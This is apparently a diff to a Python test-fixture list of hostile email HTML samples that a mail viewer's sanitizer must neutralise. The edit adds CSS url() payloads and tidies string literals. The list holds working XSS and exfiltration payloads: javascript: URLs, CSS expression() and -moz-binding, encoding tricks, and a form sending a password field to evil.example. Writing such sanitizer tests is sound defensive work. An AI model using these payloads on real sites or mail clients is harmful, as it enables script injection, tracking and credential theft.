@@ -1,4 +1,4 @@
-"""Hostile mails' HTML, by what it tries: each must leave nothing that runs, fetches, submits or covers. Used by the view's tests."""
+"""Hostile mails' HTML, by what it tries: each must leave nothing that runs, fetches, submits or covers."""
 
 _JS = "javascript:alert(1)"
 _URL = "http://tracker.example/x.png"
@@ -99,6 +99,8 @@ HOSTILE = [
     # style
     f"<p style='background:url({_URL})'>x",
     f"<p style='background-image:url({_URL})'>x",
+    "<p style='color:url(//192.0.2.1/5)'>x",
+    "<p style='color:urgb(1)l(//192.0.2.1/5)'>x",
     f"<p style='background:u\\72l({_URL})'>x",
     f"<p style='background:\\75 rl({_URL})'>x",
     f"<p style='background:url/**/({_URL})'>x",
@@ -113,11 +115,11 @@ HOSTILE = [
     f"<p style='background-color:image-set(\"{_URL}\" 1x)'>x",
     f"<p style='--a:url({_URL});background:var(--a)'>x",
     f"<p style='color:var(--a,url({_URL}))'>x",
-    f"<p style='color:attr(x url);width:env(x)'>x",
+    "<p style='color:attr(x url);width:env(x)'>x",
     f"<p style='font-family:\"x;background:url({_URL})\"'>x",
     f"<p style='font-family:x\";background:url({_URL});\"'>x",
     f"<p style='font:12px url({_URL})'>x",
-    f"<p style='color:red/*;*/;width:expression(alert(1))'>x",
+    "<p style='color:red/*;*/;width:expression(alert(1))'>x",
     "<p style='-moz-binding:url(http://evil.example/x.xml#a)'>x",
     "<p style='behavior:url(x.htc)'>x",
     "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x",
@@ -179,7 +181,7 @@ HOSTILE = [
     "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
     "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
     # forms, and what changes the page around it
-    "<form action=http://evil.example/><input name=password type=password><button formaction=javascript:alert(1)>x</button></form>",
+    "<form action=http://evil.example/><input name=password><button formaction=javascript:alert(1)>x</button></form>",
     "<input onfocus=alert(1) autofocus><select onchange=alert(1)></select><textarea autofocus onfocus=alert(1)></textarea>",
     "<button form=login formaction=//evil.example/>x</button><keygen>",
     "<a id=document name=cookie class=admin>x</a><img name=getElementById alt=x><p id=__proto__>x",
